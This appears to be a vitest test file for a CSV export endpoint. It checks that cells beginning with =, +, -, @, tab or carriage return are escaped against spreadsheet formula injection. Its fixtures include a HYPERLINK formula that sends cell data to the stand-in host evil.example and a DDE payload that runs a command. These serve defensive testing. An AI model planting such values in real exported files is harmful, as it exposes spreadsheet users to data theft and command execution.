import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startApi, type TestApi } from '../../helpers/api.js';
import { createRig, type TestRig } from '../../helpers/env.js';
import { seedMention } from '../../helpers/seed.js';

const AUTHORS = [
  {
    id: 'h1',
    handle: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    name: "+cmd|' /C calc'!A0",
  },
  { id: 'h2', handle: '-2+3', name: '@SUM(1+1)' },
  { id: 'h3', handle: '\tleading-tab', name: '\rleading-cr' },
  { id: 'h4', handle: 'plain-handle', name: 'Ann = fan' },
];

describe('GET /advocates.csv with cells a spreadsheet would run', () => {
  let rig: TestRig;
  let api: TestApi;

  beforeAll(async () => {
    rig = await createRig('csv_injection');
    api = await startApi(rig);
    for (const [index, author] of AUTHORS.entries()) {
      const mention = await seedMention(rig, { authorId: author.id, label: 'positive' });
      const profile = await rig.store.authors.applyMention({
        ...mention,
        author: { ...mention.author, handle: author.handle, name: author.name },
      });
      await rig.store.authors.setDerived(profile.id, { advocateScore: 10 - index });
    }
  });
  afterAll(async () => {
    await api.close();
    await rig.cleanup();
  });

  it('prefixes every cell starting with = + - @ tab or CR with an apostrophe, and nothing else', async () => {
    const response = await api.call('/advocates.csv', { role: 'marketing' });
    const rows = parse<Record<string, string>>(await response.text(), {
      columns: true,
      relax_quotes: true,
    });
    expect(rows.map((row) => [row.handle, row.name])).toEqual([
      [`'=HYPERLINK("http://evil.example/?"&A1,"click")`, `'+cmd|' /C calc'!A0`],
      [`'-2+3`, `'@SUM(1+1)`],
      [`'\tleading-tab`, `'\rleading-cr`],
      ['plain-handle', 'Ann = fan'],
    ]);
    // Numbers stay numbers.
    expect(rows.map((row) => row.advocate_score)).toEqual(['10', '9', '8', '7']);
  });
});
